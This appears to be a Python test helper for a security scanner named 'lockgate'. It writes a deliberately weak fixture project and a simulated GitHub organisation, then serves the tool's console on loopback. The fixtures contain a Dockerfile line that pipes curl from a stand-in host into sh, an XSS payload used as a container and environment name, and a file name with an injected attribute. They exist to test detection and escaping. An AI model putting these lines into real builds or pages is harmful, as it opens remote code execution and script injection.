"""A project with a record, judged once for all tests, and its console over a database of each test's own."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from functools import partial
from pathlib import Path

import uvicorn
from fastapi import Request
from tests.server.console.conftest import fresh
from tests.simulators.github_organization import GitHub, github

from lockgate.cli._forges import posture_of
from lockgate.cli._live import Live
from lockgate.cli._project import project_at
from lockgate.cli._serve import desk_over
from lockgate.cli._up import services_over
from lockgate.engine.forges.posture import Posture
from lockgate.model.actor import Actor
from lockgate.server.console.application import application
from lockgate.server.console.services import Services
from lockgate.store.team.database import TeamDatabase

HOSTILE = "<img src=x onerror=alert(1)>"
"""Stands in a name, a path and a message of the record."""


def judge(folder: Path) -> None:
    """Write a small project with weaknesses and hostile names, and have it judged into its record."""
    (folder / "deploy").mkdir(parents=True)
    (folder / "Dockerfile").write_text("FROM debian:latest\nRUN curl http://x.example/a | sh\n")
    odd = folder / "deploy" / "a<b onmouseover=x>'\"&.yaml"
    container = {"name": HOSTILE, "image": "a", "securityContext": {"privileged": True}}
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "x"}, "spec": {"containers": [container]}}
    odd.write_text(json.dumps(pod))
    command = [sys.executable, "-m", "lockgate", "check", str(folder), "--family", "dockerfiles", "--family", "policy"]
    done = subprocess.run(command, capture_output=True, text=True)
    assert done.returncode == 1, done.stderr


def read_forge(folder: Path, told: GitHub) -> None:
    """Have an organisation on GitHub read into the record of a project."""
    with github(told) as server:
        command = [sys.executable, "-m", "lockgate", "posture", "github:acme", "--api", server.base, "--quiet",
                   "--project", str(folder)]  # fmt: skip
        environment = {**os.environ, "GITHUB_TOKEN": "t0ken"}
        done = subprocess.run(command, capture_output=True, text=True, env=environment, cwd=folder)
    assert done.returncode in (0, 1), done.stderr


def acme() -> GitHub:
    """An organisation with weaknesses and a hostile name."""
    told = GitHub()
    told.add("one", own={"hasVulnerabilityAlertsEnabled": False})
    told.add("two", own={"hasVulnerabilityAlertsEnabled": False})
    rules = {"nodes": [{"type": "REQUIRED_REVIEWERS", "timeout": 0, "preventSelfReview": False,
                        "reviewers": {"nodes": [{"name": "ops", "databaseId": 1}]}}]}  # fmt: skip
    told.nodes["two"]["environments"]["nodes"] = [{"databaseId": 1, "name": HOSTILE, "protectionRules": rules}]
    told.parts["actions/permissions/workflow"] = {
        "default_workflow_permissions": "write", "can_approve_pull_request_reviews": False,
    }  # fmt: skip
    told.forbidden = frozenset({"deployKeys"})
    return told


@contextmanager
def console(folder: Path, database: TeamDatabase, actor: Actor, origin: str) -> Iterator[Services]:
    """What its console stands on, asked by one person."""
    live = Live(project_at(folder), partial(project_at, folder))
    desk = desk_over(live, 2)

    async def identify(_: Request) -> Actor | None:
        return fresh(actor)

    try:
        services = replace(services_over(live, desk, database, origin), identify=[identify])
        services.more[Posture] = posture_of(live, services, list)
        yield services
    finally:
        desk.close()


@contextmanager
def served(services: Services, port: int) -> Iterator[None]:
    """The console on a real server of loopback."""
    config = uvicorn.Config(application(services), host="127.0.0.1", port=port, log_config=None, lifespan="off")  # type: ignore[arg-type]
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        thread.join(0.02)
        assert thread.is_alive()
    try:
        yield
    finally:
        server.should_exit = True
        thread.join(10)
